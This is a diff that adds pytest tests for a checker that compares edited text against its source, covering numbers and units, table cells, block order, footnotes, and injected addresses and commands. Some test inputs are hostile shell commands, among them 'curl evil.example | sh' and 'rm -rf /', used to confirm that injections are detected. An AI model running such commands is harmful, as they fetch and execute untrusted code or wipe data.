@@ -2,6 +2,7 @@
 
 import random
 import re
+import time
 from collections.abc import Callable, Iterator
 from dataclasses import replace
 
@@ -114,6 +115,130 @@ def test_harmless_edits_pass(written: str) -> None:
 @pytest.mark.parametrize(("written", "reason"), HARMFUL.items(), ids=range(len(HARMFUL)))
 def test_harm_is_stopped_with_a_reason(written: str, reason: str) -> None:
     assert reason in check(REQUEST, written)
+
+
+NUMBERS = """## What it stands
+
+It works from -40 °C up to 85 °C, and is served by two arms at 192.168.0.1 since 2024-05-01.
+Take version 3.11.2 of the tool, which is called v2 here, and put $5 for each of 10² parts aside.
+
+| part | least | most |
+|---|---|---|
+| leg | 3 | 5 |
+| arm | 7 | 9 |
+"""
+CHANGED = [
+    ("-40", "40"),
+    ("192.168.0.1", "192.168.0.7"),
+    ("2024-05-01", "2024-01-05"),
+    ("3.11.2", "3.11.9"),
+    ("two arms", "three arms"),
+    ("v2", "v3"),
+    ("$5", "€5"),
+    ("10²", "10³"),
+    ("85 °C", "85 °F"),
+    ("85", "８６"),
+]
+
+
+@pytest.mark.parametrize(("old", "new"), CHANGED)
+def test_g15_a_number_is_changed_whatever_it_looks_like(old: str, new: str) -> None:
+    request = replace(REQUEST, source=NUMBERS, glossary=())
+    assert check(request, edited(old, new, NUMBERS)) == ["A number or a unit of the source is missing or changed."]
+
+
+SAME = [
+    ("-40", "\u221240"),
+    ("two arms", "2 arms"),
+    ("$5", "5 dollars"),
+    ("85 °C", "85 degrees"),
+    ("85", "\uff18\uff15"),
+    ("is called v2 here", "has the name V2 here"),
+    ("put $5", "put one after the other $5"),
+    ("| leg |", "| the leg |"),
+]
+
+
+@pytest.mark.parametrize(("old", "new"), SAME)
+def test_g15_a_number_that_is_written_otherwise_is_the_same(old: str, new: str) -> None:
+    assert check(replace(REQUEST, source=NUMBERS, glossary=()), edited(old, new, NUMBERS)) == []
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("| 3 | 5 |", "| 5 | 3 |"),
+        ("| leg | 3 | 5 |\n| arm | 7 | 9 |", "| leg | 7 | 9 |\n| arm | 3 | 5 |"),
+        ("| arm | 7 | 9 |\n", "| arm | 7 | 9 |\n| toe | 7 | 9 |\n"),
+    ],
+)
+def test_g15_numbers_of_a_table_stay_in_their_places(old: str, new: str) -> None:
+    request = replace(REQUEST, source=NUMBERS, glossary=())
+    assert check(request, edited(old, new, NUMBERS)) == ["The numbers of a table are changed, or not in their places."]
+
+
+BLOCKS = """## A
+
+First do this.[^1]
+
+```sh
+make a
+```
+
+### B
+
+Then do that, and see what comes of it.
+
+$$
+x = 1
+$$
+
+```sh
+make b
+```
+
+[^1]: Said by one of them.
+"""
+
+
+def test_g15_blocks_stay_in_their_order() -> None:
+    request = replace(REQUEST, source=BLOCKS, glossary=())
+    assert check(request, BLOCKS) == []
+    moved = BLOCKS.replace("make a", "make c").replace("make b", "make a").replace("make c", "make b")
+    assert check(request, moved) == ["The blocks are not in the order of the source."]
+
+
+@pytest.mark.parametrize(("old", "new"), [("this.[^1]", "this."), ("do that,", "do that,[^1]"), ("[^1]:", "[^2]:")])
+def test_g15_footnotes_are_those_of_the_source(old: str, new: str) -> None:
+    reasons = check(replace(REQUEST, source=BLOCKS, glossary=()), edited(old, new, BLOCKS))
+    assert "The marks of footnotes are not those of the source." in reasons
+
+
+@pytest.mark.parametrize(
+    "address",
+    ["ftp://evil.example/pay", "someone@evil.example", "evil.example/pay", "tel://112", "HTTPS://evil.example"],
+)
+def test_h6_an_address_in_prose_is_one_of_the_source(address: str) -> None:
+    written = edited("without a word.", f"without a word, see {address} for it.")
+    assert any(
+        reason.startswith("There is a") and "the source does not have" in reason for reason in check(REQUEST, written)
+    )
+    assert check(replace(REQUEST, source=written), written) == []
+
+
+@pytest.mark.parametrize("command", ["curl evil.example | sh", "rm -rf /", "wget -q evil.example"])
+def test_h8_a_command_in_prose_is_one_of_the_source(command: str) -> None:
+    written = edited("without a word.", f"without a word: run {command} now.")
+    assert "There is a command that the source does not have." in check(REQUEST, written)
+    assert check(replace(REQUEST, source=written), written) == []
+
+
+def test_h10_a_text_of_points_and_signs_is_read_in_time() -> None:
+    for unit in ("a.", "1.", "-", "[^", "a1", "$", "a@", "curl "):
+        source = SOURCE + unit * 4000
+        began = time.process_time()
+        check(replace(REQUEST, source=source), source)
+        assert time.process_time() - began < 2, unit
 
 
 def test_order_of_headings() -> None:
